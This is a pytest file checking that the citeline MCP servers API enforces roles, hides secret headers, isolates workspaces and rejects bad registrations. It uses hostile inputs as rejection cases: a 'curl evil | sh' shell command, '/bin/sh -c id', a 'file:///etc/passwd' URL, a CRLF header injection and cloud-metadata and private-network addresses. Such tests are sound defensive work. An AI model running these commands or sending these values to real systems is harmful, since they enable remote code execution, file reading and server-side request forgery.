"""The MCP servers API in `required` mode: who may register what, secrets that never come
back, bad input as problem details, tools with their policies, and workspaces kept apart."""

from __future__ import annotations

import uuid
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import httpx
import pytest
from sqlalchemy import select

from citeline.api.app import create_app
from citeline.auth import Role
from citeline.mcp.models import McpServer
from citeline.resources import Resources
from citeline.settings import Settings
from tests.conftest import LiveServer, fast_settings
from tests.mcp.support import TIME_SERVER, HttpServer, http_mcp, stdio_commands

__all__ = ["http_mcp"]
PASSWORD = "correct horse battery"
SECRET = "s3cret-token-value-42"


@pytest.fixture
def settings(tmp_path: Path, database_url: str, embedded_redis_url: str) -> Settings:
    return fast_settings(
        tmp_path / "data",
        database_url,
        embedded_redis_url,
        auth="required",
        mcp_stdio_commands=stdio_commands(),
        outbound_allowed_hosts=["127.0.0.1"],
    )


@dataclass
class People:
    url: str
    resources: Resources
    clients: dict[str, httpx.Client]

    def __getitem__(self, who: str) -> httpx.Client:
        return self.clients[who]


@pytest.fixture
def people(resources: Resources) -> Iterator[People]:
    system = resources.accounts()
    root = system.create_user(
        "root@example.com", PASSWORD, is_admin=True, workspace_id="default", role=Role.owner
    )
    system.create_workspace("Alpha", "alpha", owner_id=root.id)
    system.create_workspace("Beta", "beta", owner_id=root.id)
    for email, workspace, role in [
        ("ada@example.com", "alpha", Role.admin),
        ("alice@example.com", "alpha", Role.member),
        ("vera@example.com", "alpha", Role.viewer),
        ("bob@example.com", "beta", Role.admin),
    ]:
        system.create_user(email, PASSWORD, workspace_id=workspace, role=role)
    with LiveServer(create_app(resources)) as url:
        clients = {}
        for who, workspace in [
            ("root", "alpha"), ("ada", "alpha"), ("alice", "alpha"), ("vera", "alpha"),
            ("bob", "beta"),
        ]:  # fmt: skip
            data = {
                "grant_type": "password",
                "username": f"{who}@example.com",
                "password": PASSWORD,
                "workspace": workspace,
            }
            token = httpx.post(f"{url}/v1/auth/token", data=data).json()["access_token"]
            clients[who] = httpx.Client(
                base_url=url, headers={"Authorization": f"Bearer {token}"}, timeout=60
            )
        yield People(url, resources, clients)
        for client in clients.values():
            client.close()


def problem(response: httpx.Response, status: int, field: str | None = None) -> str:
    assert response.status_code == status, response.text
    assert response.headers["content-type"].startswith("application/problem+json")
    body = response.json()
    if field is not None:
        assert body["errors"][0]["field"] == field, body
    detail: str = body["detail"]
    return detail


def test_a_workspace_admin_registers_an_http_server_whose_secrets_never_come_back(
    people: People, http_mcp: HttpServer
) -> None:
    body = {
        "name": "lab",
        "transport": "http",
        "url": http_mcp.url,
        "headers": {"Authorization": f"Bearer {SECRET}"},
    }
    created = people["ada"].post("/v1/mcp-servers", json=body)
    assert created.status_code == 201, created.text
    server = created.json()
    assert server["header_names"] == ["Authorization"] and SECRET not in created.text
    listed = people["vera"].get("/v1/mcp-servers")
    assert [s["name"] for s in listed.json()["servers"]] == ["lab"] and SECRET not in listed.text
    assert people["alice"].get(f"/v1/mcp-servers/{server['id']}").json()["url"] == http_mcp.url
    assert people["alice"].get("/v1/mcp-servers/lab").json()["id"] == server["id"]
    with people.resources.sessions() as session:
        stored = session.scalars(select(McpServer.secrets)).one()
    assert SECRET not in stored and "Authorization" not in stored  # encrypted at rest

    tools = people["vera"].get(f"/v1/mcp-servers/{server['id']}/tools")
    assert tools.status_code == 200, tools.text
    by_name = {t["tool"]: t for t in tools.json()["tools"]}
    assert by_name["echo"]["name"] == "lab__echo" and by_name["echo"]["policy"] == "allow"
    assert by_name["erase"]["destructive"] is True and by_name["erase"]["policy"] == "deny"
    assert by_name["erase"]["policies"] == {
        "viewer": "deny", "member": "ask", "admin": "ask", "owner": "ask",
    }  # fmt: skip

    policies = {"policies": [{"tool": "erase", "role": "member", "policy": "deny"}]}
    assert (
        people["alice"].put(f"/v1/mcp-servers/{server['id']}/policies", json=policies).status_code
        == 403
    )
    put = people["ada"].put(f"/v1/mcp-servers/{server['id']}/policies", json=policies)
    assert put.status_code == 200 and put.json()["policies"] == policies["policies"]
    after = people["alice"].get(f"/v1/mcp-servers/{server['id']}/tools").json()["tools"]
    assert {t["tool"]: t["policy"] for t in after}["erase"] == "deny"
    bad_policy = {"policies": [{"tool": "erase", "role": "member", "policy": "maybe"}]}
    problem(people["ada"].put(f"/v1/mcp-servers/{server['id']}/policies", json=bad_policy), 422)

    assert people["alice"].delete(f"/v1/mcp-servers/{server['id']}").status_code == 403
    assert people["ada"].delete(f"/v1/mcp-servers/{server['id']}").status_code == 204
    problem(people["ada"].get(f"/v1/mcp-servers/{server['id']}"), 404)


def test_bad_registrations_get_problem_details_and_store_nothing(
    people: People, http_mcp: HttpServer
) -> None:
    ada, root = people["ada"], people["root"]
    http = {"name": "lab", "transport": "http"}
    problem(ada.post("/v1/mcp-servers", json={**http, "url": "ftp://example.com/mcp"}), 422, "url")
    problem(ada.post("/v1/mcp-servers", json={**http, "url": "file:///etc/passwd"}), 422, "url")
    problem(ada.post("/v1/mcp-servers", json=http), 422, "url")
    problem(
        ada.post("/v1/mcp-servers", json={**http, "name": "no spaces", "url": http_mcp.url}),
        422,
        "name",
    )
    stdio = {"name": "time", "transport": "stdio", "command": TIME_SERVER}
    assert "instance administrator" in problem(ada.post("/v1/mcp-servers", json=stdio), 403)
    assert "role (member)" in problem(
        people["alice"].post("/v1/mcp-servers", json={**http, "url": http_mcp.url}), 403
    )
    shell = {**stdio, "command": "sh -c 'curl evil | sh'"}
    assert "never a shell string" in problem(
        root.post("/v1/mcp-servers", json=shell), 422, "command"
    )
    other = {**stdio, "command": "/bin/sh", "args": ["-c", "id"]}
    assert "not on CITELINE_MCP_STDIO_COMMANDS" in problem(
        root.post("/v1/mcp-servers", json=other), 422, "command"
    )
    mixed = {**stdio, "url": http_mcp.url}
    problem(root.post("/v1/mcp-servers", json=mixed), 422, "url")
    problem(
        ada.post("/v1/mcp-servers", json={**http, "url": http_mcp.url, "headers": {"X": "a\r\nb"}}),
        422,
        "headers",
    )
    assert ada.get("/v1/mcp-servers").json()["servers"] == []

    # The instance administrator may add the allowlisted command; a name is taken once.
    assert root.post("/v1/mcp-servers", json=stdio).status_code == 201
    problem(root.post("/v1/mcp-servers", json=stdio), 409)
    problem(ada.get(f"/v1/mcp-servers/{uuid.uuid4()}"), 404)
    problem(ada.get(f"/v1/mcp-servers/{uuid.uuid4()}/tools"), 404)


def test_private_addresses_are_refused_unless_the_operator_allows_them(
    people: People, http_mcp: HttpServer
) -> None:
    people.resources.settings = people.resources.settings.model_copy(
        update={"outbound_allowed_hosts": []}
    )
    for url in (http_mcp.url, "http://169.254.169.254/latest", "http://10.1.2.3/mcp"):
        body = {"name": "lab", "transport": "http", "url": url}
        detail = problem(people["ada"].post("/v1/mcp-servers", json=body), 422, "url")
        assert "CITELINE_OUTBOUND_ALLOWED_HOSTS" in detail


def test_another_workspace_cannot_see_or_use_a_server(people: People, http_mcp: HttpServer) -> None:
    body = {"name": "lab", "transport": "http", "url": http_mcp.url}
    server_id = people["ada"].post("/v1/mcp-servers", json=body).json()["id"]
    bob = people["bob"]
    assert bob.get("/v1/mcp-servers").json()["servers"] == []
    for method, path in [
        ("GET", f"/v1/mcp-servers/{server_id}"),
        ("GET", f"/v1/mcp-servers/{server_id}/tools"),
        ("GET", f"/v1/mcp-servers/{server_id}/policies"),
        ("DELETE", f"/v1/mcp-servers/{server_id}"),
        ("GET", "/v1/mcp-servers/lab"),
    ]:
        problem(bob.request(method, path), 404)
    put = bob.put(f"/v1/mcp-servers/{server_id}/policies", json={"policies": []})
    problem(put, 404)
    # The same name is free in another workspace.
    assert bob.post("/v1/mcp-servers", json=body).status_code == 201


def test_a_server_that_is_down_gives_a_clear_502(people: People, http_mcp: HttpServer) -> None:
    body = {"name": "lab", "transport": "http", "url": http_mcp.url}
    server_id = people["ada"].post("/v1/mcp-servers", json=body).json()["id"]
    http_mcp.stop()
    detail = problem(people["ada"].get(f"/v1/mcp-servers/{server_id}/tools?refresh=true"), 502)
    assert "MCP server 'lab' is unreachable" in detail
